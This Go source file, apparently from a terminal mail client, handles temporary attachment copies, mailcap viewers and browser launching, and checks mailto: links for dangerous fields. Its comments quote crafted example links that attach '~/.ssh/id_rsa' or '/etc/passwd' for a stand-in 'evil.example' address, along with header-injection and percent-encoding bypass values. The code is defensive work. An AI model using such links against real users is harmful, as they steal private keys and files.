// Package external runs other programs on message content: it writes
// private temporary copies for them, runs mailcap viewers and pipes, and
// starts the browser or the opener.
//
// Everything handed to another program is the sender's: files are written
// under a private directory (0700, the files 0600) below the XDG runtime
// directory (else the cache directory), never through a symlink, and under
// generated names (the sender's file name is never used as a path); values
// put into shell commands are quoted by mailstore/mailcap.
package external

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"mime"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"time"
	"unicode"

	"github.com/sesbox/sesbox/internal/lazyregexp"
	"github.com/sesbox/sesbox/mailstore"
	"github.com/sesbox/sesbox/mailstore/mailcap"
	sesmime "github.com/sesbox/sesbox/mailstore/mime"
	"github.com/sesbox/sesbox/mailstore/xdg"
)

// Base is the directory private temporary directories are made in:
// $XDG_RUNTIME_DIR/sesbox (a per-user tmpfs, gone at logout), else
// $XDG_CACHE_HOME/sesbox/tmp.
func Base() (string, error) {
	if rt := os.Getenv("XDG_RUNTIME_DIR"); filepath.IsAbs(rt) {
		if fi, err := os.Stat(rt); err == nil && fi.IsDir() {
			return filepath.Join(rt, "sesbox"), nil
		}
	}
	return xdg.Cache("tmp")
}

// PrivateDir makes a new directory only the user can enter, below Base.
// The caller removes it when done.
func PrivateDir() (string, error) {
	base, err := Base()
	if err != nil {
		return "", fmt.Errorf("private directory: %w", err)
	}
	return privateDirIn(base)
}

func privateDirIn(base string) (string, error) {
	// MkdirPrivate: base, and its parents up to the one named "sesbox"
	// (~/.cache/sesbox above ~/.cache/sesbox/tmp), are real directories
	// of this user's (one another user made first in a shared
	// XDG_RUNTIME_DIR is theirs), never symlinks, and base is put to 0700
	// through a descriptor.
	if err := xdg.MkdirPrivate(base); err != nil {
		return "", fmt.Errorf("private directory: %w", err)
	}
	// MkdirTemp creates a fresh directory (mkdir fails on anything
	// existing, a symlink included), 0700.
	dir, err := os.MkdirTemp(base, "open-")
	if err != nil {
		return "", fmt.Errorf("private directory: %w", err)
	}
	return dir, nil
}

// WriteFile copies content to a new file in dir under a generated name
// ("part-1a2b3c4d.pdf"; ext from the content type, or ext when it is not
// empty) and returns its path. It refuses to follow or replace anything
// already there. When the copy fails (a read that breaks, a full disk),
// the file is removed: a part cut short must not stay behind, where a
// program could take it for the whole.
func WriteFile(dir string, content io.Reader, contentType, ext string) (string, error) {
	if ext == "" {
		ext = Extension(contentType)
	}
	var rnd [6]byte
	if _, err := rand.Read(rnd[:]); err != nil {
		return "", err
	}
	path := filepath.Join(dir, "part-"+hex.EncodeToString(rnd[:])+ext)
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL|noFollow, 0o600)
	if err != nil {
		return "", fmt.Errorf("write private copy: %w", err)
	}
	_, err = io.Copy(f, content)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		_ = os.Remove(path)
		return "", fmt.Errorf("write private copy: %w", err)
	}
	return path, nil
}

// common gives the usual extension for the types mail carries, so the
// name does not depend on the system's mime.types.
var common = map[string]string{
	"text/plain": ".txt", "text/html": ".html", "text/calendar": ".ics", "text/csv": ".csv",
	"text/markdown": ".md", "text/xml": ".xml", "application/xml": ".xml",
	"application/pdf": ".pdf", "application/zip": ".zip", "application/gzip": ".gz",
	"application/json": ".json", "application/msword": ".doc", "application/rtf": ".rtf",
	"application/vnd.openxmlformats-officedocument.wordprocessingml.document":   ".docx",
	"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet":         ".xlsx",
	"application/vnd.openxmlformats-officedocument.presentationml.presentation": ".pptx",
	"application/vnd.ms-excel": ".xls", "application/vnd.oasis.opendocument.text": ".odt",
	"image/png": ".png", "image/jpeg": ".jpg", "image/gif": ".gif", "image/webp": ".webp",
	"image/svg+xml": ".svg", "image/tiff": ".tiff", "image/bmp": ".bmp", "image/heic": ".heic",
	"audio/mpeg": ".mp3", "audio/ogg": ".ogg", "audio/wav": ".wav", "video/mp4": ".mp4",
	"video/quicktime": ".mov", "message/rfc822": ".eml", "message/global": ".eml",
	"text/rfc822-headers": ".txt", "message/delivery-status": ".txt",
}

// Extension returns a file extension (with its dot) for a content type:
// ".pdf" for application/pdf, ".bin" when nothing better is known.
func Extension(contentType string) string {
	ct, _, err := mime.ParseMediaType(contentType)
	if err != nil {
		ct = strings.ToLower(strings.TrimSpace(contentType))
	}
	if e, ok := common[ct]; ok {
		return e
	}
	if es, err := mime.ExtensionsByType(ct); err == nil && len(es) > 0 && safeExt(es[0]) {
		return es[0]
	}
	if strings.HasPrefix(ct, "text/") {
		return ".txt"
	}
	return ".bin"
}

func safeExt(e string) bool {
	if len(e) < 2 || len(e) > 10 || e[0] != '.' {
		return false
	}
	for _, c := range e[1:] {
		if !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9') {
			return false
		}
	}
	return true
}

// OverSSH reports whether sesbox runs in an SSH session: a browser started
// here would open on the remote machine, out of the user's sight.
func OverSSH() bool {
	return os.Getenv("SSH_CONNECTION") != "" || os.Getenv("SSH_TTY") != ""
}

// Browser returns the command that opens a URL or an HTML file: the first
// of $BROWSER (a colon-separated list, each entry a command that may hold
// %s), else opener (sesbox's $OPENER / xdg-open). Empty means none.
func Browser(opener string) string {
	if b := os.Getenv("BROWSER"); b != "" {
		for _, c := range strings.Split(b, ":") {
			if strings.TrimSpace(c) != "" {
				return c
			}
		}
	}
	return opener
}

// BrowserArgv turns a browser command and a target into argv: %s is
// replaced by target (as one argument), else target is appended.
func BrowserArgv(browser, target string) []string {
	argv := strings.Fields(browser)
	if len(argv) == 0 {
		return nil
	}
	replaced := false
	for i, a := range argv {
		if strings.Contains(a, "%s") {
			argv[i] = strings.ReplaceAll(a, "%s", target)
			replaced = true
		}
	}
	if !replaced {
		argv = append(argv, target)
	}
	return argv
}

// NotOpenable says why sesbox does not start a browser on u, "" when it
// does. Anything from a message but web and mail links (file:, javascript:,
// a custom scheme that starts some program, a leading "-" a browser would
// read as an option), a link holding a control character or a blank, and
// a mailto: link with a field other than mailtoFields, is only ever
// copied.
func NotOpenable(u string) string {
	if strings.ContainsFunc(u, func(r rune) bool { return r < 0x20 || (r >= 0x7f && r <= 0x9f) || unicode.IsSpace(r) }) {
		return "it holds a blank or a control character"
	}
	l := strings.ToLower(u)
	for _, p := range []string{"https://", "http://"} {
		if strings.HasPrefix(l, p) && len(l) > len(p) {
			return ""
		}
	}
	if rest, ok := strings.CutPrefix(l, "mailto:"); ok && rest != "" {
		return mailtoFieldsAllowed(u[len("mailto:"):])
	}
	return "only web and mail links are opened"
}

// mailtoFields are the fields of a mailto: link (RFC 6068) a mail client
// opened on it may fill in. Others are refused: the mail clients xdg-open
// hands a mailto: link to have attached a local file it names
// ("mailto:x@evil.example?attach=/home/me/.ssh/id_rsa": Evolution,
// KMail, Thunderbird and others read attach, attachment or attachments;
// "Mailto: Me Your Secrets", 2020) to a reply the user then sends without
// seeing what it carries, and other fields can set headers the user never
// looks at.
var mailtoFields = map[string]bool{"to": true, "cc": true, "subject": true, "body": true, "in-reply-to": true}

// mailtoFieldsAllowed is "" when every field of the mailto: link whose
// part after the scheme is rest is one of mailtoFields, and no value
// hides what the link does not show (mailtoValueHides), else why it is
// not opened. Fields are split at "&" and at ";" too, as some clients
// do, and each name and the address are read percent-decoded until they
// no longer change: "%61ttach" is attach, and an address of
// "x%3Fattach=..." is a field to a client that decodes it first.
func mailtoFieldsAllowed(rest string) string {
	const why = "its mailto: fields go beyond to, cc, subject, body"   // in-reply-to too; 76 cells with the notice
	const hides = "its mailto: values hide fields, addresses or lines" // 76 cells with the notice too
	addr, query, _ := strings.Cut(rest, "?")
	if strings.ContainsAny(unescapeAll(addr), "?&;") {
		return why
	}
	if mailtoValueHides("to", addr) {
		return hides
	}
	for _, f := range strings.FieldsFunc(query, func(r rune) bool { return r == '&' || r == ';' }) {
		name, value, _ := strings.Cut(f, "=")
		name = unescapeAll(name)
		field := strings.ToLower(strings.TrimSpace(name))
		if strings.ContainsAny(name, "?&;=") || !mailtoFields[field] {
			return why
		}
		if mailtoValueHides(field, value) {
			return hides
		}
	}
	// xdg-email splits the fields at "&" only: it hands Thunderbird the
	// subject= and body= it finds so as they are, after a ",", so a ","
	// in them, up to the next "&", starts a field of Thunderbird's
	// ("subject=hi,;attachment=/etc/passwd" is one subject to it), and a
	// quote its quoting; and
	// the to= and cc= values decoded, then through echo -e, between
	// single quotes, so a quote or a backslash there, up to the next "&",
	// ends the quoting or makes a line break ("to=a;x=\n").
	for _, f := range strings.Split(query, "&") {
		name, value, _ := strings.Cut(f, "=")
		switch name {
		case "subject", "body":
			if thunderbirdField().MatchString(value) || strings.Contains(value, "'") {
				return hides
			}
		case "to", "cc":
			if mailtoValueHides(name, value) {
				return hides
			}
		}
	}
	return ""
}

// thunderbirdField is a field of Thunderbird's -compose argument in a
// value: a "," and a name with "=".
var thunderbirdField = lazyregexp.New(`,[^,=]*=`)

// mailtoValueHides reports whether value, of the mailto: field named
// field (the address before "?" is "to"), as written or percent-decoded
// by a client (any number of times), holds what the link as listed does
// not show: another field ("subject=x%26cc%3Dspy@evil.example", or
// ",attachment=" for xdg-email, which hands Thunderbird the subject and
// body as they are and the addresses decoded between quotes: "to='...'");
// a line break or another control character in a value that becomes a
// header ("subject=x%0D%0ABcc:%20spy@evil.example"); or, in an address
// list, a separator that only decoding makes ("a%2Cspy@evil.example"),
// a quote or backslash that ends xdg-email's quoting, or a "%" left to
// decode again. A body may hold line breaks and "&": it is no header,
// and "body=Tom%26Jerry" is no field.
func mailtoValueHides(field, value string) bool {
	decoded := unescapeAll(value)
	for _, v := range []string{value, decoded} {
		if mailtoHiddenField().MatchString(v) {
			return true
		}
	}
	if strings.ContainsFunc(decoded, func(r rune) bool {
		return (unicode.IsControl(r) || r == '\u2028' || r == '\u2029') && !(field == "body" && (r == '\r' || r == '\n' || r == '\t'))
	}) {
		return true
	}
	if field == "to" || field == "cc" {
		return strings.ContainsAny(decoded, "'\"\\%&?=") ||
			strings.Count(decoded, ",") != strings.Count(value, ",") ||
			strings.Count(decoded, ";") != strings.Count(value, ";")
	}
	return false
}

// mailtoHiddenField is a field inside a value: a separator of fields
// (mailto's "&" and ";", Thunderbird's -compose ",") and a name with "=".
// A "?" separates only the address from the fields.
var mailtoHiddenField = lazyregexp.New(`[,;&][^,;&=]*=`)

// unescapeAll percent-decodes s until it no longer changes (at most a
// few times; what still decodes after that is returned with a "%", which
// names no field). A "%" not followed by two hex digits stays as it is,
// as a lenient client leaves it: strict decoding gave up on the whole
// text at the first such "%" and returned nothing, so
// "x@evil.example%3Fattach=/etc/passwd%zz" hid its field from the check
// and was opened.
func unescapeAll(s string) string {
	for range 4 {
		d := string(sesmime.PercentDecode(s))
		if d == s {
			return d
		}
		s = d
	}
	return s + "%"
}

// Start starts argv detached: no terminal (its output is discarded so it
// cannot draw over the screen), reaped in the background.
func Start(argv []string) error {
	if len(argv) == 0 {
		return errors.New("no program to start (set $OPENER or $BROWSER)")
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = nil, nil, nil
	cmd.SysProcAttr = detached()
	if err := cmd.Start(); err != nil {
		err = fmt.Errorf("start %s: %w", argv[0], err)
		if errors.Is(err, exec.ErrNotFound) {
			// The usual case on a server or in a container: no xdg-open.
			// What to do comes first, as everywhere (mailstore.Explain).
			return &mailstore.HintError{Hint: argv[0] + " is not installed: set $BROWSER or $OPENER to a program that opens files", Err: err}
		}
		return err
	}
	go func() { _ = cmd.Wait() }()
	return nil
}

// Shell returns argv running a command line with sh.
func Shell(cmdline string) []string {
	if runtime.GOOS == "windows" {
		return []string{"cmd", "/C", cmdline}
	}
	return []string{"/bin/sh", "-c", cmdline}
}

// OutputLimit bounds what a copiousoutput viewer may print: more is cut
// (and said so), so a runaway program cannot fill memory.
const OutputLimit = 4 << 20

// RunTimeout bounds a copiousoutput viewer and a test= command.
const RunTimeout = 30 * time.Second

// Output runs cmdline with sh, with stdin as its input (nil: none), and
// returns what it printed on stdout, at most OutputLimit bytes (truncated
// reports a cut). A non-zero exit is an error that quotes the end of
// stderr.
func Output(ctx context.Context, cmdline string, stdin []byte) (out []byte, truncated bool, err error) {
	ctx, cancel := context.WithTimeout(ctx, RunTimeout)
	defer cancel()
	argv := Shell(cmdline)
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	if stdin != nil {
		cmd.Stdin = bytes.NewReader(stdin)
	}
	var so limitBuf
	so.limit = OutputLimit
	var se limitBuf
	se.limit = 4096
	cmd.Stdout, cmd.Stderr = &so, &se
	cmd.WaitDelay = time.Second
	err = cmd.Run()
	if err != nil {
		msg := strings.TrimSpace(se.b.String())
		if len(msg) > 200 {
			msg = "…" + msg[len(msg)-200:]
		}
		if msg != "" {
			err = fmt.Errorf("%w: %s", err, msg)
		}
		if ctx.Err() != nil {
			err = fmt.Errorf("stopped after %s: %w", RunTimeout, err)
		}
		return so.b.Bytes(), so.cut, err
	}
	return so.b.Bytes(), so.cut, nil
}

type limitBuf struct {
	b     bytes.Buffer
	limit int
	cut   bool
}

func (l *limitBuf) Write(p []byte) (int, error) {
	n := len(p)
	if room := l.limit - l.b.Len(); room < len(p) {
		p = p[:max(room, 0)]
		l.cut = true
	}
	l.b.Write(p)
	return n, nil // keep draining: a blocked writer would hang the program
}

// TestPasses runs a mailcap test= command (expanded for file) and reports
// whether it exited 0. Tests are commands the user wrote in their own
// mailcap ("test -n \"$DISPLAY\""), run as mutt runs them.
func TestPasses(ctx context.Context, e mailcap.Entry, file, contentType string, params map[string]string) bool {
	x, err := mailcap.Expand(e.Test, file, contentType, params)
	if err != nil {
		return false
	}
	ctx, cancel := context.WithTimeout(ctx, RunTimeout)
	defer cancel()
	argv := Shell(x.Command)
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = nil, io.Discard, io.Discard
	return cmd.Run() == nil
}

// Pipe runs cmdline with sh, input on its standard input and its output on
// stdout and stderr (the terminal, when the TUI hands it over). Its error
// is the command's (exit status 1): the caller says which command.
func Pipe(cmdline string, input io.Reader, stdout, stderr io.Writer) error {
	argv := Shell(cmdline)
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Stdin = input
	cmd.Stdout, cmd.Stderr = stdout, stderr
	return cmd.Run()
}
